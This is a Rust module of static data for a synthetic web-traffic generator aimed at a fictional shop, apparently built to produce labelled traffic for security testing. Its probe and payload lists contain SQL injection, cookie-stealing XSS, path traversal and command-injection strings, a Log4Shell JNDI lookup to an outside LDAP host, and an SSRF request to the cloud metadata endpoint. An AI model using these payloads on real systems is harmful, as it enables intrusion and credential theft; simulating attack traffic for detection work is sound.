//! Static material for synthetic traffic: the API shape, user agents, scanner probes and
//! attack payloads. Payloads are a small local list; the security corpus may replace it.

/// What a normal request asks for; each kind has its own path shape, latency and size.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EpKind {
    Home,
    Product,
    Search,
    Category,
    Script,
    Style,
    Image,
    Favicon,
    CartGet,
    CartPost,
    LoginPage,
    LoginPost,
    Me,
    Orders,
    Robots,
}

pub struct Endpoint {
    pub kind: EpKind,
    pub method: &'static str,
    pub weight: f64,
    /// Backend latency median (ms) and log-space sigma.
    pub lat_ms: f64,
    pub lat_sigma: f64,
    /// Response size median (bytes).
    pub bytes: f64,
}

const fn ep(
    kind: EpKind,
    method: &'static str,
    weight: f64,
    lat_ms: f64,
    lat_sigma: f64,
    bytes: f64,
) -> Endpoint {
    Endpoint {
        kind,
        method,
        weight,
        lat_ms,
        lat_sigma,
        bytes,
    }
}

pub const ENDPOINTS: &[Endpoint] = &[
    ep(EpKind::Home, "GET", 7.0, 35.0, 0.5, 18_000.0),
    ep(EpKind::Product, "GET", 24.0, 28.0, 0.7, 4_200.0),
    ep(EpKind::Search, "GET", 9.0, 85.0, 0.8, 9_500.0),
    ep(EpKind::Category, "GET", 8.0, 45.0, 0.6, 12_000.0),
    ep(EpKind::Script, "GET", 11.0, 3.0, 0.6, 160_000.0),
    ep(EpKind::Style, "GET", 6.0, 3.0, 0.6, 42_000.0),
    ep(EpKind::Image, "GET", 16.0, 5.0, 0.7, 65_000.0),
    ep(EpKind::Favicon, "GET", 2.0, 2.0, 0.4, 5_430.0),
    ep(EpKind::CartGet, "GET", 4.0, 30.0, 0.6, 2_100.0),
    ep(EpKind::CartPost, "POST", 2.5, 60.0, 0.6, 800.0),
    ep(EpKind::LoginPage, "GET", 1.5, 20.0, 0.5, 7_800.0),
    ep(EpKind::LoginPost, "POST", 1.5, 140.0, 0.5, 350.0),
    ep(EpKind::Me, "GET", 5.0, 18.0, 0.5, 900.0),
    ep(EpKind::Orders, "POST", 1.0, 210.0, 0.6, 1_300.0),
    ep(EpKind::Robots, "GET", 0.5, 2.0, 0.3, 120.0),
];

pub const SEARCH_WORDS: &[&str] = &[
    "shoes",
    "laptop",
    "usb+c+cable",
    "coffee",
    "headphones",
    "desk+lamp",
    "backpack",
    "phone+case",
    "monitor",
    "keyboard",
    "running",
    "gift",
    "sale",
    "kettle",
    "jacket",
];

pub const CATEGORIES: &[&str] = &[
    "electronics",
    "books",
    "home",
    "garden",
    "fashion",
    "sports",
    "toys",
    "kitchen",
];

/// Browser and app user agents seen in normal traffic (clients keep one each).
pub const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36 Edg/119.0.2151.97",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.43 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045.163 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "ShopApp/4.12.0 (iPhone; iOS 17.1; Scale/3.00)",
    "okhttp/4.11.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/8.4.0",
];

/// Relative weights of [`USER_AGENTS`]: browsers dominate, bots and tools are rare.
pub const USER_AGENT_WEIGHTS: &[u32] = &[30, 6, 10, 8, 7, 3, 14, 9, 5, 3, 6, 3, 2, 1, 1];

pub const SCRAPER_UA: &str = "python-requests/2.31.0";
pub const FLOOD_UA: &str = "Go-http-client/1.1";
pub const STUFFING_UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
];
pub const SCANNER_UAS: &[&str] = &[
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
    "Mozilla/5.0 zgrab/0.x",
    "gobuster/3.6",
];

/// Scanner probes: sensitive files and admin panels that do not exist here.
pub const PROBES: &[&str] = &[
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-login.php",
    "/wp-config.php.bak",
    "/xmlrpc.php",
    "/phpmyadmin/index.php",
    "/admin/",
    "/admin.php",
    "/backup.zip",
    "/db.sql",
    "/server-status",
    "/.aws/credentials",
    "/config.json",
    "/.DS_Store",
    "/actuator/env",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci",
    "/.htpasswd",
    "/etc/passwd",
];

/// Attack requests: (path, query, user agent override). Written the way attack tools send
/// them: some raw, some percent-encoded.
pub const PAYLOADS: &[(&str, &str, Option<&str>)] = &[
    ("/api/products", "id=1%27%20OR%20%271%27%3D%271", None),
    (
        "/api/search",
        "q=1%20UNION%20SELECT%20username,password%20FROM%20users--",
        None,
    ),
    (
        "/api/products/1",
        "sort=name;DROP%20TABLE%20products--",
        None,
    ),
    (
        "/api/search",
        "q=<script>alert(document.cookie)</script>",
        None,
    ),
    (
        "/api/search",
        "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        None,
    ),
    ("/static/../../../../etc/passwd", "", None),
    (
        "/api/download",
        "file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        None,
    ),
    ("/api/ping", "host=127.0.0.1;cat%20/etc/passwd", None),
    ("/api/export", "name=$(id)", None),
    ("/", "x=${jndi:ldap://203.0.113.66:1389/a}", None),
    (
        "/api/products/7",
        "",
        Some("${jndi:ldap://203.0.113.66:1389/Basic/Exploit}"),
    ),
    (
        "/api/fetch",
        "url=http://169.254.169.254/latest/meta-data/iam/",
        None,
    ),
];

pub const TARGETS: [&str; 4] = [
    "10.0.1.7:80",
    "10.0.1.23:80",
    "10.0.2.11:80",
    "10.0.2.40:80",
];
pub const HOST: &str = "shop.example.com";
